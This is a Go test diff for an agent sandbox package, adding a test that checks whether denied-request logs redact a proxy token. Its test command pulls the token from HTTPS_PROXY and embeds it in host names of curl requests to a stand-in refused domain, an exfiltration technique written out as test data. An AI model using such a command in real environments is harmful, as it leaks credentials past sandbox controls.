@@ -3,6 +3,7 @@ package agentproc_test
 import (
 	"errors"
 	"os"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -60,7 +61,7 @@ func TestAttack18nUnprivileged(t *testing.T) {
 	if os.Geteuid() != 0 {
 		t.Skip("needs root to switch users")
 	}
-	rerunAsSandboxUser(t, []string{"TestAttackHostsStartRefusedNamesEnv", "TestAttackDeadProxyTokensPushOutEnvSecrets"}, false)
+	rerunAsSandboxUser(t, []string{"TestAttackHostsStartRefusedNamesEnv", "TestAttackDeadProxyTokensPushOutEnvSecrets", "TestAttackProxyTokenInDenial"}, false)
 }
 
 // TestAttackDeadProxyTokensPushOutEnvSecrets: a tree's proxy token is
@@ -99,5 +100,34 @@ func TestAttackDeadProxyTokensPushOutEnvSecrets(t *testing.T) {
 	}
 	if got := show(); strings.Contains(got, secret) {
 		t.Errorf("after four NetworkHosts Starts the owner's copy read %q: their ended trees' tokens pushed its Env secret out of its set", got)
+	}
+}
+
+// TestAttackProxyTokenInDenial (held): a tree puts its own proxy token,
+// which it reads from its proxy variables, in the host name of a request
+// its list refuses, upper case and lower case (the proxy lowers a host
+// name), over HTTP and CONNECT: the denial's target reaches Info, events,
+// httpapi's JSON and llmtool's text. It reads the redacted name. The
+// control: the denial is there, and names the refused host's suffix.
+func TestAttackProxyTokenInDenial(t *testing.T) {
+	requireHosts(t)
+	m := newManager(t)
+	sb := hostsSandbox(t, "allowed.example")
+	p := mustStart(t, m.Scope("alice"), hostsRequest(t, sb, `t=${HTTPS_PROXY#*agentproc:}; t=${t%%@*}; l=$(printf %s "$t" | tr A-Z a-z)
+for h in "$t" "$l"; do curl -s -o /dev/null https://$h.denied.example/; curl -s -o /dev/null http://$h.denied.example/; done; true`))
+	mustWait(t, p)
+	ds := p.Info().Denials
+	if len(ds) == 0 {
+		t.Fatalf("control: no denial in Info, want the refused hosts'")
+	}
+	env := regexp.MustCompile(`[A-Z2-7]{26}`)
+	for _, d := range ds {
+		t.Logf("denial: %+v", d)
+		if !strings.Contains(d.Target, "denied.example") {
+			t.Errorf("control: denial %+v, want the refused host", d)
+		}
+		if env.MatchString(strings.ToUpper(strings.ReplaceAll(d.Target, "redacted", ""))) {
+			t.Errorf("denial %+v shows a token-like name, want the tree's token redacted", d)
+		}
 	}
 }
